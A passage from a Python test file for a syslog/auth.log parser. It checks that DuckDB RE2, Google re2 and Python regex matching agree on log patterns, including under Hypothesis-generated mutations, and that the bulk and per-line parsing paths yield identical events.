    return None if m is None else {k: v or "" for k, v in m.groupdict().items()}


def test_duckdb_re2_agrees_with_python_on_every_input() -> None:
    con = duckdb.connect()
    con.execute("CREATE TABLE msgs (i INTEGER, msg VARCHAR)")
    con.executemany("INSERT INTO msgs VALUES (?, ?)", list(enumerate(AGREEMENT_INPUTS)))
    disagreements = []
    for module, p in ALL_PATTERNS:
        names = p.group_names()
        regex = sql_string(p.regex)
        extract = f", regexp_extract(msg, {regex}, [{', '.join(sql_string(n) for n in names)}])" if names else ""
        rows = con.execute(f"SELECT i, regexp_matches(msg, {regex}){extract} FROM msgs ORDER BY i").fetchall()
        for row in rows:
            text = AGREEMENT_INPUTS[row[0]]
            expected = _python_groups(p, text)
            got = None if not row[1] else (row[2] if names else {})
            if got != expected:
                disagreements.append((module, p.action, text, expected, got))
    assert disagreements == []


def test_google_re2_agrees_with_python_on_every_input() -> None:
    re2 = pytest.importorskip("re2")
    disagreements = []
    for module, p in ALL_PATTERNS:
        compiled = re2.compile(p.regex)
        for text in AGREEMENT_INPUTS:
            m = compiled.match(text)
            got = None if m is None else {k: v or "" for k, v in m.groupdict().items()}
            if got != _python_groups(p, text):
                disagreements.append((module, p.action, text))
    assert disagreements == []


def test_bulk_path_gives_the_same_events_as_the_per_line_path() -> None:
    lines = [
        f"Nov 28 10:00:{i % 60:02d} host1 {program}[{100 + i}]: {message}"
        for i, (program, message, _) in enumerate(CASES)
    ]
    data = ("\n".join(lines) + "\n").encode()
    ctx = ParseContext()
    con = duckdb.connect()
    table = BulkSyslog().parse(con, Chunk("/var/log/auth.log", 0, data).to_arrow(), ctx)
    bulk = con.sql(f'SELECT * FROM {table} ORDER BY "log.offset"').to_arrow_table().to_pylist()
    ref = to_arrow(SyslogParser().parse_batch(Chunk("/var/log/auth.log", 0, data).lines(), ctx)).to_pylist()
    assert len(bulk) == len(ref) == len(CASES)
    for b, r in zip(bulk, ref, strict=True):
        assert r["event.action"] is not None, r["event.original"]
        for field in FIELD_NAMES:
            vb, vr = b.get(field), r[field]
            if field == "labels":
                vb, vr = dict(vb or []), dict(vr or [])
            assert vb == vr, (field, r["event.original"])


# A line never holds "\n" (readers split on it), and there the engines differ: Python's `$` also
# matches before a final newline, RE2's does not. Any other character may be spliced in.
_mutation = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"], exclude_characters="\n"),
                    max_size=12) | st.sampled_from(
    [" ; ", " rhost=", " user=", "'", "(", ")", "  ", "\u00a0", "\u0663", "::ffff:", ", ", "#012", "."]
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(sorted({m for _, m, _ in CASES})), st.integers(0, 400), st.integers(0, 8), _mutation)
def test_re2_agrees_with_python_on_mutated_samples(base: str, at: int, cut: int, insert: str) -> None:
    """Splice text into a sample (or cut some out): both engines must still see the same thing."""
    re2 = pytest.importorskip("re2")
    at = min(at, len(base))
    text = base[:at] + insert + base[at + cut:]
    for module, p in ALL_PATTERNS:
        m = re2.compile(p.regex).match(text)
        got = None if m is None else {k: v or "" for k, v in m.groupdict().items()}
        assert got == _python_groups(p, text), (module, p.action, text)
